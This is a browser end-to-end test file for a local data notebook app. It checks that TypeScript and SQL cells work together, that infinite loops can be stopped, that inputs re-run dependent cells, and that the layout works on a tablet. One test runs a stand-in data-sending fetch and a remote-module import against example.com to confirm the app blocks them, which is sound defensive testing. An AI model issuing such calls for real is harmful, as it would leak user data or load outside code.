/**
 * TypeScript and input cells in the built app, in Chromium: a TS cell computes from a SQL result and
 * feeds a SQL cell; an infinite loop is stopped with the Stop button and the notebook keeps working;
 * changing an input re-runs its dependants; a cell's network request fails without leaving the origin.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { cell, openApp, resultRows, resultText, screenshot, settled, typeInto, type AppSession } from './browser';

let app: AppSession;

beforeAll(async () => {
  // A profile of its own: openApp() without one passes --user-data-dir, which playwright-core now refuses.
  app = await openApp({ userDataDir: mkdtempSync(path.join(tmpdir(), 'longtail-ts-cells-')) });
  await app.page.waitForSelector('[data-testid="cell"]', { timeout: 90_000 });
  await settled(app.page);
});

afterAll(async () => {
  await app?.close();
});

/** Adds a cell of `kind` at the end of the notebook, names it, and returns its name. */
async function addCell(page: Page, kind: 'TypeScript' | 'SQL' | 'input', name: string): Promise<string> {
  const label = { TypeScript: 'Add a TS (TypeScript) cell here', SQL: 'Add a SQL cell here', input: 'Add an input cell here' }[kind];
  await page.getByRole('button', { name: label, exact: true }).last().click();
  const added = page.locator('[data-testid="cell"]').last();
  const field = added.locator('[data-testid="cell-name"]');
  await field.fill(name);
  await field.press('Enter');
  await cell(page, name).waitFor();
  return name;
}

/** Waits until the cell has finished a run: done, error or blocked (typing leaves it idle or edited). */
async function finished(page: Page, name: string): Promise<void> {
  await page.locator(`[data-testid="cell"][data-name="${name}"]:is([data-status="done"], [data-status="error"], [data-status="blocked"])`).waitFor({ timeout: 30_000 });
  await settled(page);
}

async function runCell(page: Page, name: string, source: string): Promise<void> {
  await typeInto(page, name, source);
  await page.keyboard.press('Control+Enter');
  await finished(page, name);
}

const tableText = (page: Page, name: string) => resultText(page, name);
/** The values of the first result row, without the row number. */
const firstRow = async (page: Page, name: string) => (await resultRows(page, name))[0]!;
const status = (page: Page, name: string) => cell(page, name).getAttribute('data-status');

describe('TypeScript cells in Chromium', () => {
  it('a TS cell computes from a SQL result and feeds a SQL cell', async () => {
    const { page } = app;
    await addCell(page, 'TypeScript', 'doubled');
    await runCell(page, 'doubled', 'return partner_revenue.filter((r) => r.revenue > 0).map((r) => ({ partner_id: r.partner_id, doubled: 2 * r.revenue }));');
    expect(await status(page, 'doubled')).toBe('done');
    await addCell(page, 'SQL', 'check_doubled');
    // the SQL cell recomputes the total on its own (exact decimals); the TS sums are doubles, so they may
    // differ in the last digits of a total of hundreds of millions, never by a cent
    await runCell(
      page,
      'check_doubled',
      'SELECT count(*) = (SELECT count(*) FROM partner_revenue WHERE revenue > 0) AS same_rows, abs(sum(doubled) - 2 * (SELECT sum(revenue) FROM partner_revenue WHERE revenue > 0)) < 0.01 AS same_total FROM doubled',
    );
    expect(await status(page, 'check_doubled')).toBe('done');
    expect(await firstRow(page, 'check_doubled')).toEqual(['true', 'true']);
    await cell(page, 'doubled').scrollIntoViewIfNeeded();
    await screenshot(page, 'ts-cell-feeds-sql');
    expect(app.foreign()).toEqual([]);
  });

  it('stops an infinite loop with the Stop button and keeps working', async () => {
    const { page } = app;
    const overview = await tableText(page, 'tables_overview');
    await addCell(page, 'TypeScript', 'spin');
    await typeInto(page, 'spin', 'let i = 0;\nwhile (true) i++;');
    await page.keyboard.press('Control+Enter');
    await page.locator('[data-testid="cell"][data-name="spin"][data-status="running"]').waitFor({ timeout: 10_000 });
    // the page stays responsive while the loop spins in the worker: it draws frames and answers a script
    expect(await page.evaluate(() => new Promise<boolean>((r) => requestAnimationFrame(() => requestAnimationFrame(() => r(true)))))).toBe(true);
    await cell(page, 'spin').locator('[data-testid="stop-cell"]').click();
    await settled(page);
    expect(await status(page, 'spin')).toBe('error');
    expect(await cell(page, 'spin').locator('[data-testid="cell-error"]').innerText()).toMatch(/stopped/i);
    expect(await tableText(page, 'tables_overview')).toBe(overview);
    // a fresh worker runs the next cell, which still reads other results
    await runCell(page, 'spin', 'return [{ partners: partner_revenue.length }];');
    expect(await status(page, 'spin')).toBe('done');
    const [partners] = await firstRow(page, 'spin');
    expect(Number(partners!.replace(/\D/g, ''))).toBeGreaterThan(0);
    expect(app.foreign()).toEqual([]);
  });

  it('re-runs the dependants of an input cell when its value changes', async () => {
    const { page } = app;
    await addCell(page, 'input', 'factor');
    const widget = cell(page, 'factor').locator('[data-testid="input-widget"]');
    await widget.locator('summary').click();
    await widget.locator('[data-testid="input-type"]').selectOption('number');
    const control = widget.locator('[data-testid="input-control"]');
    await control.fill('3');
    await control.press('Tab');
    await finished(page, 'factor');
    await addCell(page, 'TypeScript', 'times_factor');
    await runCell(page, 'times_factor', 'return [{ v: 7 * factor }];');
    await addCell(page, 'SQL', 'plus_factor');
    await runCell(page, 'plus_factor', 'SELECT v + $factor AS w FROM times_factor');
    // 7 × 3 = 21 in the TS cell, + 3 in the SQL cell
    expect(await firstRow(page, 'plus_factor')).toEqual(['24']);
    await control.fill('5');
    await control.press('Tab');
    await page.waitForFunction(() => document.querySelector('[data-name="plus_factor"] [data-testid="cell-result"] tbody td:not(.rownum)')?.textContent?.trim() === '40', undefined, { timeout: 30_000 });
    await settled(page);
    // 7 × 5 = 35 in the TS cell, + 5 in the SQL cell
    expect(await firstRow(page, 'times_factor')).toEqual(['35']);
    expect(await firstRow(page, 'plus_factor')).toEqual(['40']);
    await widget.scrollIntoViewIfNeeded();
    await screenshot(page, 'input-cell');
    expect(app.foreign()).toEqual([]);
  });

  it('refuses a network request from a cell, and nothing leaves the origin', async () => {
    const { page } = app;
    await addCell(page, 'TypeScript', 'leak');
    await runCell(page, 'leak', "const r = await fetch('https://example.com/collect?data=1');\nreturn [{ ok: r.ok }];");
    expect(await status(page, 'leak')).toBe('error');
    const text = await cell(page, 'leak').locator('[data-testid="cell-error"]').innerText();
    expect(text).toMatch(/Longtail keeps your data on this machine/);
    expect(text).toMatch(/Line 1, column 17/);
    await runCell(page, 'leak', "const m = await import('https://example.com/lib.js');\nreturn [];");
    expect(await cell(page, 'leak').locator('[data-testid="cell-error"]').innerText()).toMatch(/import\(\) is not available/);
    expect(app.requests.some((u) => u.includes('example.com'))).toBe(false);
    expect(app.foreign()).toEqual([]);
  });

  it('opens a template whose input cells drive its analyses', async () => {
    const { page } = app;
    await page.locator('[data-testid="template"]', { hasText: 'RFM segmentation' }).click();
    await cell(page, 'no_purchase').locator('[data-testid="row-count"]').waitFor({ timeout: 60_000 });
    await settled(page);
    const window = cell(page, 'window_days').locator('[data-testid="input-control"]');
    expect(await window.inputValue()).toBe('730');
    expect(await cell(page, 'as_of').locator('[data-testid="input-widget"]').getAttribute('data-type')).toBe('date');
    const noPurchase = async () => Number((await cell(page, 'no_purchase').locator('[data-testid="row-count"]').innerText()).replace(/\D/g, ''));
    const before = await noPurchase();
    await cell(page, 'window_days').scrollIntoViewIfNeeded();
    await screenshot(page, 'rfm-template-inputs');
    await window.fill('365');
    await window.press('Tab');
    // a shorter window can only lose purchases: more partners land in "No purchase"
    await page.waitForFunction(
      (n) => Number(document.querySelector('[data-name="no_purchase"] [data-testid="row-count"]')?.textContent?.replace(/\D/g, '')) > n,
      before,
      { timeout: 60_000 },
    );
    await settled(page);
    expect(await noPurchase()).toBeGreaterThan(before);
    expect(app.foreign()).toEqual([]);
  });

  it('looks right on a tablet', async () => {
    const { page } = app;
    await page.setViewportSize({ width: 820, height: 1180 });
    // the side panel covers the notebook at this width: hide it, as a tablet user would
    await page.getByRole('button', { name: 'Hide the side panel' }).click();
    await cell(page, 'window_days').scrollIntoViewIfNeeded();
    // the input stays usable at this width: its control is visible and not clipped
    const box = await cell(page, 'window_days').locator('[data-testid="input-control"]').boundingBox();
    expect(box!.x).toBeGreaterThanOrEqual(0);
    expect(box!.x + box!.width).toBeLessThanOrEqual(820);
    await screenshot(page, 'input-and-ts-tablet');
    expect(app.foreign()).toEqual([]);
  });
});
